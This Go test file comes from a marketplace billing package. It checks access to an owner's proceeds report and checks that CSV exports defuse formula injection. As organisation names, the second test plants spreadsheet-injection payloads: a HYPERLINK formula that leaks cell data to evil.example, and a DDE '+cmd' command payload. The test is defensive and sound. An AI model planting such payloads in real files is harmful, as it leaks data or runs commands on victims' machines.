package billing_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/nephele-cloud/nephele/internal/identity"
	"github.com/nephele-cloud/nephele/internal/subscription"
)

// Issue 15: the marketplace owner could not read its own margin (404).
// Its staff with financial reports read it; the platform fee its vendors
// owe it lowers its purchases, so selling at a wholesale price below the
// vendor's is not read as a loss.
func TestOwnerReadsItsProceeds(t *testing.T) {
	t.Parallel()
	each(t, func(t *testing.T, f *fixture) {
		f.markups()
		f.order("customer_a1", subscription.PlaceOrderInput{PlanID: f.plans["Pro"].ID})       // wholesale 48.00 of 60.00
		f.order("customer_direct", subscription.PlaceOrderInput{PlanID: f.plans["Basic"].ID}) // retail 30.00 + setup 10.00
		month := start.Format("2006-01")
		for _, who := range []string{"admin", "supervisor", "super_admin"} {
			rep, err := f.bill.ChannelProceeds(f.as(who), f.org("operator"), month)
			if err != nil {
				t.Fatalf("%s reads the owner's proceeds: %v", who, err)
			}
			// Sales 48.00 + 40.00; purchases 60.00 + 40.00 at the vendor's
			// prices less its 20 % fee (12.00 + 8.00).
			if len(rep.Lines) != 1 || rep.Lines[0].Sales.String() != "88.00" || rep.Lines[0].Purchases.String() != "80.00" ||
				rep.Lines[0].Margin.String() != "8.00" {
				t.Fatalf("owner's proceeds: %+v", rep.Lines)
			}
		}
		for _, who := range []string{"distributor", "reseller_a", "vendor_a", "customer_direct"} {
			_, err := f.bill.ChannelProceeds(f.as(who), f.org("operator"), month)
			wantCode(t, err, "organization_not_found")
		}
		// A vendor is no seller of the channel: its report is the balance.
		_, err := f.bill.ChannelProceeds(f.as("admin"), f.org("vendor_a"), month)
		wantCode(t, err, "organization_not_found")
	})
}

// Issue 15: CSV exports wrote cells starting with =, +, -, @ as they
// were, which spreadsheets run as formulas. Text cells get a leading
// quote; plain numbers (negative amounts) stay numbers.
func TestCSVExportsDefuseFormulas(t *testing.T) {
	t.Parallel()
	each(t, func(t *testing.T, f *fixture) {
		f.markups()
		evil := `=HYPERLINK("http://evil.example/?"&A1,"Click")`
		for who, name := range map[string]string{"reseller_a": evil, "customer_a1": "@SUM(1+1)", "distributor": "-2+3", "vendor_a": "+cmd|' /C calc'!A0"} {
			if _, err := f.w.Svc.UpdateOrganization(sys(), f.org(who), identity.UpdateOrganizationInput{Name: &name}); err != nil {
				t.Fatal(err)
			}
		}
		f.order("customer_a1", subscription.PlaceOrderInput{PlanID: f.plans["Pro"].ID})
		month := start.Format("2006-01")
		proceeds, err := f.bill.ChannelProceeds(f.as("reseller_a"), f.org("reseller_a"), month)
		if err != nil {
			t.Fatal(err)
		}
		balance, err := f.bill.VendorBalance(f.as("vendor_a"), f.org("vendor_a"), month)
		if err != nil {
			t.Fatal(err)
		}
		st, err := f.bill.PartyStatement(f.as("reseller_a"), f.org("reseller_a"), start.Add(-time.Hour), start.AddDate(0, 1, 0))
		if err != nil {
			t.Fatal(err)
		}
		negative := false
		for name, raw := range map[string][]byte{"proceeds": proceeds.CSV(), "balance": balance.CSV(), "statement": st.CSV()} {
			rows, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			for _, row := range rows {
				for _, cell := range row {
					if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
						t.Errorf("%s: cell %q can run as a formula", name, cell)
					}
					if strings.HasPrefix(cell, "-") {
						if strings.Trim(cell, "-0123456789.") != "" {
							t.Errorf("%s: cell %q can run as a formula", name, cell)
						}
						negative = true
					}
				}
			}
			quoted := map[string]string{"proceeds": `'=HYPERLINK`, "balance": `'+cmd`, "statement": `'@SUM`}[name]
			if !bytes.Contains(raw, []byte(quoted)) {
				t.Errorf("%s: a name is not kept as text (%s): %s", name, quoted, raw)
			}
		}
		if !negative {
			t.Error("no negative amount was exported: the test proves less than it says")
		}
	})
}
